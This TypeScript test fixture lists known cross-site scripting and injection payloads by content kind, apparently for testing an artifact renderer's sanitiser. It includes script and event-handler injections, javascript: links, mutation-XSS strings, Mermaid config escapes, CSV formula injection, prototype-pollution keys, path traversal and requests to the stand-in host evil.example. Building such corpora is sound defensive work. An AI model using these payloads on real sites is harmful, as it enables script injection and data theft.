// Known attacks that run a script or send a request, by kind. A successful attack prints EXECUTED or contacts
// evil.example.

import type { Kind } from "../../../supabase/functions/mcp/artifacts/artifact.ts";

const RUN = "console.log('EXECUTED')";
const HOME = "http://evil.example";

/** HTML that is also used in Markdown, SVG and diagrams. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${HOME}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${HOME}/pixel.png">`,
  `<img srcset="${HOME}/pixel.png 1x">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><image href="${HOME}/i.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${HOME}/frame"></iframe>`,
  `<object data="javascript:${RUN}"></object><object data="${HOME}/o"></object>`,
  `<embed src="${HOME}/e">`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video autoplay><source src="${HOME}/v.mp4" onerror="${RUN}"></video>`,
  `<audio src="${HOME}/a.mp3" autoplay></audio>`,
  `<body onload="${RUN}" background="${HOME}/b.png">`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<style>@import url("${HOME}/s.css"); body { background: url("${HOME}/bg.png") }</style>`,
  `<p style="background:url(${HOME}/p.png)">x</p>`,
  `<link rel="stylesheet" href="${HOME}/l.css"><link rel="prefetch" href="${HOME}/pre">`,
  `<link rel="preconnect" href="${HOME}"><link rel="dns-prefetch" href="${HOME}">`,
  `<meta http-equiv="refresh" content="0;url=${HOME}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${RUN}</script>`,
  `<base href="${HOME}/"><img src="relative.png">`,
  `<form action="${HOME}/f"><button autofocus>x</button></form>`,
  `<div id="getElementById"></div><form name="body"><input name="appendChild"></form>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `</script><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
];

const LINKS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:${RUN})`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `<javascript:${RUN}>`,
  `![x](${HOME}/image.png)`,
  `![x](javascript:${RUN})`,
  `![x" onerror="${RUN}](x)`,
  `[x](https://example.com" onclick="${RUN})`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
];

const DIAGRAMS = [
  `flowchart LR\n  A["<img src=x onerror=${RUN}>"] --> B`,
  `flowchart LR\n  A["<script>${RUN}</script>"] --> B`,
  `flowchart LR\n  A --> B\n  click A "javascript:${RUN}"`,
  `flowchart LR\n  A --> B\n  click A call alert("EXECUTED")`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  A["<img src=x onerror=${RUN}>"]`,
  `%%{init: {"themeCSS": "@import url(${HOME}/t.css); * { background: url(${HOME}/m.png) }"}}%%\nflowchart LR\n  A`,
  `---\nconfig:\n  fontFamily: '"</style><img src=x onerror=${RUN}>'\n---\nflowchart LR\n  A`,
  `sequenceDiagram\n  A->>B: <img src=x onerror=${RUN}>`,
  `flowchart LR\n  A@{ img: "${HOME}/node.png", label: "x" }`,
  `classDiagram\n  class A["</script><script>${RUN}</script>"]`,
];

const TABLES = [
  `a,b\n=HYPERLINK("${HOME}"),@SUM(1)\n=cmd|' /C calc'!A0,"<img src=x onerror=${RUN}>"`,
  `"<img src=x onerror=${RUN}>",__proto__\n1,"</td><script>${RUN}</script>"`,
];

const DATA = [
  `{"__proto__": {"x": "<img src=x onerror=${RUN}>"}, "<img src=x onerror=${RUN}>": 1}`,
  `["</script><script>${RUN}</script>", {"constructor": {"prototype": 1}}]`,
  `not JSON <img src=x onerror=${RUN}>`,
];

/** Contents by kind. */
export const CORPUS: Record<Kind, readonly string[]> = {
  markdown: [...MARKUP, ...LINKS],
  html: MARKUP,
  svg: MARKUP.map((markup) => `<svg xmlns="http://www.w3.org/2000/svg">${markup}</svg>`),
  mermaid: [...DIAGRAMS, ...MARKUP.slice(0, 3)],
  csv: TABLES,
  json: DATA,
  code: MARKUP,
  text: MARKUP.slice(0, 5),
};

/** Titles, which appear in headings, file names and frames. */
export const TITLES: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `"><script>${RUN}</script>`,
  `../../etc/passwd`,
  `a\u202Egpj.exe`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];
